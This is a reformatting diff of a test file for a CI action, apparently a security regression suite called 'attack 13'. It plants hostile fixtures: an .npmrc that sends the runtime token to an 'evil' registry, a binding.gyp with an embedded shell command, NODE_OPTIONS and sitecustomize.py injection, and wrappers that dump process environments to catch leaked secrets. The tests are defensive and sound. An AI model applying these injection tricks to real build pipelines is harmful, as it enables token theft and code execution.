@@ -12,7 +12,9 @@ import { node24, runStep, type StepResult } from '../support/runner.ts'
 import { wineSpec } from '../support/specs.ts'
 import { needs } from '../support/tools.ts'
 
-beforeEach((context) => { if (platform === null) context.skip('no native engine for this machine') })
+beforeEach((context) => {
+  if (platform === null) context.skip('no native engine for this machine')
+})
 
 interface Registry {
   readonly url: string
@@ -29,16 +31,33 @@ async function startRegistry(): Promise<Registry> {
   })
   await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
   return {
-    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`, requests,
-    close: () => new Promise((resolve) => { server.closeAllConnections(); server.close(() => resolve()) }),
+    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`,
+    requests,
+    close: () =>
+      new Promise((resolve) => {
+        server.closeAllConnections()
+        server.close(() => resolve())
+      }),
   }
 }
 
-interface Place { readonly folder: string; readonly workspace: string; readonly tools: string; readonly temp: string; readonly empty: string }
+interface Place {
+  readonly folder: string
+  readonly workspace: string
+  readonly tools: string
+  readonly temp: string
+  readonly empty: string
+}
 
 function machine(): Place {
   const folder = mkdtempSync(join(tmpdir(), 'runner-'))
-  const place = { folder, workspace: join(folder, 'checkout'), tools: join(folder, 'tools'), temp: join(folder, 'temp'), empty: join(folder, 'empty') }
+  const place = {
+    folder,
+    workspace: join(folder, 'checkout'),
+    tools: join(folder, 'tools'),
+    temp: join(folder, 'temp'),
+    empty: join(folder, 'empty'),
+  }
   for (const path of [place.workspace, place.tools, place.temp, place.empty]) mkdirSync(path)
   copyFileSync(join(root, 'examples/wine/wine.csv'), join(place.workspace, 'wine.csv'))
   writeFileSync(join(place.workspace, 'tuning.yml'), wineSpec({ epochs: 5 }))
@@ -46,10 +65,13 @@ function machine(): Place {
 }
 
 /** A step of the bundled action on a machine without npm, pip and compiler. */
-const step = ({ workspace, tools, temp, empty }: Place, env: Readonly<Record<string, string>> = {}): Promise<StepResult> => runStep({
-  script: join(root, 'dist/action/index.js'), workspace, with: { engine: 'tensorflow', workers: '1', artifact: 'false' },
-  env: { PATH: empty, RUNNER_TOOL_CACHE: tools, RUNNER_TEMP: temp, ACTIONS_RUNTIME_TOKEN: 'runtime-secret', ...env },
-})
+const step = ({ workspace, tools, temp, empty }: Place, env: Readonly<Record<string, string>> = {}): Promise<StepResult> =>
+  runStep({
+    script: join(root, 'dist/action/index.js'),
+    workspace,
+    with: { engine: 'tensorflow', workers: '1', artifact: 'false' },
+    env: { PATH: empty, RUNNER_TOOL_CACHE: tools, RUNNER_TEMP: temp, ACTIONS_RUNTIME_TOKEN: 'runtime-secret', ...env },
+  })
 
 describe('attack 13: an engine that somebody planted', () => {
   it('in the tool cache is never run, though its record fits', async () => {
@@ -73,8 +95,12 @@ describe('attack 13: an engine that somebody planted', () => {
 describe('attack 13: an install in a checkout that a stranger wrote', () => {
   let registry: Registry
   let evil: Registry
-  beforeEach(async () => { [registry, evil] = [await startRegistry(), await startRegistry()] })
-  afterEach(async () => { await Promise.all([registry.close(), evil.close()]) })
+  beforeEach(async () => {
+    ;[registry, evil] = [await startRegistry(), await startRegistry()]
+  })
+  afterEach(async () => {
+    await Promise.all([registry.close(), evil.close()])
+  })
 
   /** Programs of this machine; npm and pip ask registries on this machine, which have nothing. */
   const install = (here: Place, env: Readonly<Record<string, string>> = {}): Promise<StepResult> => {
@@ -83,14 +109,22 @@ describe('attack 13: an install in a checkout that a stranger wrote', () => {
     writeFileSync(join(home, '.npmrc'), `registry=${registry.url}npm/\nfetch-retries=0\n`)
     return step(here, { PATH: process.env['PATH'] ?? '', HOME: home, PIP_INDEX_URL: `${registry.url}pip/`, ...env })
   }
-  const requires = (context: TestContext): void => { for (const name of ['c++', 'npm', 'python3']) needs(context, name) }
+  const requires = (context: TestContext): void => {
+    for (const name of ['c++', 'npm', 'python3']) needs(context, name)
+  }
 
   it('asks no registry of its .npmrc, sends it no token, and runs no pip.py of it', async (context) => {
     requires(context)
     const here = machine()
-    writeFileSync(join(here.workspace, '.npmrc'), `registry=${evil.url}\n//${new URL(evil.url).host}/:_authToken=\${ACTIONS_RUNTIME_TOKEN}\n`)
+    writeFileSync(
+      join(here.workspace, '.npmrc'),
+      `registry=${evil.url}\n//${new URL(evil.url).host}/:_authToken=\${ACTIONS_RUNTIME_TOKEN}\n`,
+    )
     writeFileSync(join(here.workspace, 'package.json'), '{}')
-    writeFileSync(join(here.workspace, 'binding.gyp'), "{ 'targets': [{ 'target_name': 'x', 'sources': ['<!(touch ran)'] }] }")
+    writeFileSync(
+      join(here.workspace, 'binding.gyp'),
+      "{ 'targets': [{ 'target_name': 'x', 'sources': ['<!(touch ran)'] }] }",
+    )
     writeFileSync(join(here.workspace, 'pip.py'), `open(${JSON.stringify(join(here.folder, 'ran'))}, 'w')\n`)
     const done = await install(here)
     expect(done.exitCode).toBe(1)
@@ -111,13 +145,23 @@ describe('attack 13: an install in a checkout that a stranger wrote', () => {
     writeFileSync(join(here.workspace, 'evil.npmrc'), `registry=${evil.url}\n`)
     writeFileSync(join(here.workspace, 'sitecustomize.py'), `open(${JSON.stringify(ran)}, 'a').write('sitecustomize')\n`)
     // Node obeys it in the step itself, so it tells the one from the others.
-    writeFileSync(join(here.workspace, 'evil.cjs'), `if (!process.argv[1]?.includes('action/index.js')) require('node:fs').appendFileSync(${JSON.stringify(ran)}, 'NODE_OPTIONS')\n`)
+    writeFileSync(
+      join(here.workspace, 'evil.cjs'),
+      `if (!process.argv[1]?.includes('action/index.js')) require('node:fs').appendFileSync(${JSON.stringify(ran)}, 'NODE_OPTIONS')\n`,
+    )
     await install(here, {
       PATH: [bin, './node_modules/.bin', 'node_modules/.bin', '', process.env['PATH'] ?? ''].join(delimiter),
-      CXX: './node_modules/.bin/cc.sh', CC: join(bin, 'cc.sh'), MAKEFLAGS: `CXX=${join(bin, 'cc.sh')}`, PYTHONPATH: here.workspace,
-      NODE_OPTIONS: `--require=${join(here.workspace, 'evil.cjs')}`, npm_config_registry: `${registry.url}npm/`, npm_config_fetch_retries: '0',
-      npm_config_userconfig: join(here.workspace, 'evil.npmrc'), npm_config_globalconfig: join(here.workspace, 'evil.npmrc'),
-      npm_config_node_options: `--require=${join(here.workspace, 'evil.cjs')}`, npm_config_script_shell: join(bin, 'cc.sh'),
+      CXX: './node_modules/.bin/cc.sh',
+      CC: join(bin, 'cc.sh'),
+      MAKEFLAGS: `CXX=${join(bin, 'cc.sh')}`,
+      PYTHONPATH: here.workspace,
+      NODE_OPTIONS: `--require=${join(here.workspace, 'evil.cjs')}`,
+      npm_config_registry: `${registry.url}npm/`,
+      npm_config_fetch_retries: '0',
+      npm_config_userconfig: join(here.workspace, 'evil.npmrc'),
+      npm_config_globalconfig: join(here.workspace, 'evil.npmrc'),
+      npm_config_node_options: `--require=${join(here.workspace, 'evil.cjs')}`,
+      npm_config_script_shell: join(bin, 'cc.sh'),
     })
     expect(registry.requests.length).toBeGreaterThan(1)
     expect(existsSync(ran) ? readFileSync(ran, 'utf8') : '').toBe('')
@@ -129,9 +173,18 @@ describe('attack 13: an install in a checkout that a stranger wrote', () => {
     const here = machine()
     const tools = mkdtempSync(join(tmpdir(), 'bin-'))
     for (const name of ['c++', 'npm', 'python3']) {
-      writeFileSync(join(tools, name), `#!/bin/sh\ntr '\\0' '\\n' </proc/$$/environ >>'${join(here.folder, 'seen')}'\nexec '${needs(context, name)}' "$@"\n`, { mode: 0o755 })
+      writeFileSync(
+        join(tools, name),
+        `#!/bin/sh\ntr '\\0' '\\n' </proc/$$/environ >>'${join(here.folder, 'seen')}'\nexec '${needs(context, name)}' "$@"\n`,
+        { mode: 0o755 },
+      )
     }
-    await install(here, { PATH: [tools, process.env['PATH'] ?? ''].join(delimiter), NPM_TOKEN: 'npm-secret', AWS_SECRET_ACCESS_KEY: 'cloud-secret', INPUT_TOKEN: 'input-secret' })
+    await install(here, {
+      PATH: [tools, process.env['PATH'] ?? ''].join(delimiter),
+      NPM_TOKEN: 'npm-secret',
+      AWS_SECRET_ACCESS_KEY: 'cloud-secret',
+      INPUT_TOKEN: 'input-secret',
+    })
     const seen = readFileSync(join(here.folder, 'seen'), 'utf8')
     expect(seen).toContain('PATH=')
     expect(seen).not.toMatch(/secret|INPUT_|GITHUB_|ACTIONS_/)
